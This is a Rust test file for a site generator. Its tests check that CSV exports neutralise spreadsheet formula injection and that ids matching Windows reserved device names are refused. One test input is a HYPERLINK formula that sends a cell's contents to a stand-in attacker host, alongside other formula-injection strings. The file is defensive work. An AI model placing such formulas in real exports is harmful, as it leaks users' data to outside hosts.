//! Output that is safe to open and to copy anywhere: open-data CSV cells
//! never run as spreadsheet formulas (the JSON keeps the exact text), and ids
//! that Windows reserves as device names are refused.

use std::path::Path;
use std::process::Command;

use kohyo::pipeline::{self, BuildOptions};

use crate::serve::harness::{edit, site as minimal};

const ITEM: &str = "content/plans/demo/items/01.yaml";

/// The cells of `data/NAME.csv` (header first) and the objects of
/// `data/NAME.json`.
fn data(
    files: &[kohyo::output::OutputFile],
    name: &str,
) -> (Vec<Vec<String>>, Vec<serde_json::Value>) {
    let file = |path: String| {
        &files
            .iter()
            .find(|f| f.path == path)
            .unwrap_or_else(|| panic!("{path} is written"))
            .bytes
    };
    let csv = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(file(format!("data/{name}.csv")).as_slice())
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect();
    let json: serde_json::Value =
        serde_json::from_slice(file(format!("data/{name}.json"))).unwrap();
    (csv, json.as_array().unwrap().clone())
}

/// The cell of `column` in the first data row.
fn cell<'a>(csv: &'a [Vec<String>], column: &str) -> &'a str {
    let at = csv[0].iter().position(|c| c == column).unwrap();
    &csv[1][at]
}

#[test]
fn csv_text_cells_that_start_like_formulas_get_an_apostrophe_json_stays_exact() {
    let site = minimal();
    let root = site.path();
    let title = r#"=HYPERLINK("http://evil.example/?"&A1,"詳細")"#;
    edit(
        root,
        ITEM,
        "title: 働きやすい職場環境づくり",
        &format!("title: '{title}'"),
    );
    edit(root, ITEM, "divisions: [人事課]", "divisions: [jinji]");
    edit(root, ITEM, "name: 時間外勤務時間数", "name: '+81 時間外'");
    edit(root, ITEM, "unit: 時間", "unit: \"\\t時間\"");
    edit(root, ITEM, "value: 12.5", "value: -3");
    edit(
        root,
        "content/divisions.yaml",
        "name: 人事課",
        "name: '@SUM(1+1)'",
    );
    edit(
        root,
        "content/plans/demo/plan.yaml",
        "title: 働きやすい職場\n",
        "title: '-1+1'\n",
    );
    let files = pipeline::render_site(
        root,
        &BuildOptions {
            no_search: true,
            ..BuildOptions::default()
        },
    )
    .unwrap()
    .files;

    let (csv, json) = data(&files, "structure");
    assert_eq!(cell(&csv, "title"), format!("'{title}"));
    assert_eq!(json[0]["title"], title);
    assert_eq!(cell(&csv, "goal_title"), "'-1+1");
    assert_eq!(json[0]["goal_title"], "-1+1");
    assert_eq!(cell(&csv, "divisions"), "'@SUM(1+1)");
    assert_eq!(json[0]["divisions"], "@SUM(1+1)");
    // Text that does not start like a formula is untouched.
    assert_eq!(cell(&csv, "policy_title"), "環境の整備");

    let (csv, json) = data(&files, "item-divisions");
    assert_eq!(cell(&csv, "division"), "'@SUM(1+1)");
    assert_eq!(json[0]["division"], "@SUM(1+1)");

    let (csv, json) = data(&files, "indicators");
    assert_eq!(cell(&csv, "name"), "'+81 時間外");
    assert_eq!(json[0]["name"], "+81 時間外");
    assert_eq!(cell(&csv, "unit"), "'\t時間");
    assert_eq!(json[0]["unit"], "\t時間");
    // A negative number is data, not a formula: it stays a number.
    assert_eq!(cell(&csv, "value"), "-3");
    assert_eq!(json[0]["value"], -3);
}

fn check(root: &Path) -> (i32, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_kohyo"))
        .args(["check", "--root"])
        .arg(root)
        .env("NO_COLOR", "1")
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8(out.stderr).unwrap(),
    )
}

#[test]
fn ids_windows_reserves_are_refused() {
    let site = minimal();
    let root = site.path();
    edit(root, "content/divisions.yaml", "id: zaisei", "id: con");
    edit(root, ITEM, "id: overtime-hours", "id: com1");
    edit(root, "content/plans/demo/plan.yaml", "id: data", "id: aux");
    edit(root, ITEM, "marks: [data]", "marks: [aux]");
    std::fs::rename(
        root.join("content/pages/about.md"),
        root.join("content/pages/nul.md"),
    )
    .unwrap();
    std::fs::rename(
        root.join("content/plans/demo"),
        root.join("content/plans/lpt9"),
    )
    .unwrap();
    let (code, stderr) = check(root);
    assert_eq!(code, 1, "{stderr}");
    assert_eq!(
        stderr,
        "content/divisions.yaml:4:9: error: division id `con` is a file name Windows reserves for devices
  4 |   - id: con
    |         ^
  hint: Windows cannot use con, prn, aux, nul, com0–com9 or lpt0–lpt9 as a file name (with any extension), so the published site could not be copied or unzipped there; choose another, e.g. `con-1`
content/pages/nul.md: error: page file name `nul` is a file name Windows reserves for devices
  hint: Windows cannot use con, prn, aux, nul, com0–com9 or lpt0–lpt9 as a file name (with any extension), so the published site could not be copied or unzipped there; choose another, e.g. `nul-1`
content/plans/lpt9: error: plan folder name `lpt9` is a file name Windows reserves for devices
  hint: Windows cannot use con, prn, aux, nul, com0–com9 or lpt0–lpt9 as a file name (with any extension), so the published site could not be copied or unzipped there; choose another, e.g. `lpt9-1`
content/plans/lpt9/items/01.yaml:14:9: error: indicator id `com1` is a file name Windows reserves for devices
  14 |   - id: com1
     |         ^
  hint: Windows cannot use con, prn, aux, nul, com0–com9 or lpt0–lpt9 as a file name (with any extension), so the published site could not be copied or unzipped there; choose another, e.g. `com1-1`
content/plans/lpt9/plan.yaml:6:9: error: mark id `aux` is a file name Windows reserves for devices
  6 |   - id: aux
    |         ^
  hint: Windows cannot use con, prn, aux, nul, com0–com9 or lpt0–lpt9 as a file name (with any extension), so the published site could not be copied or unzipped there; choose another, e.g. `aux-1`
5 error(s); nothing was written.
"
    );
}
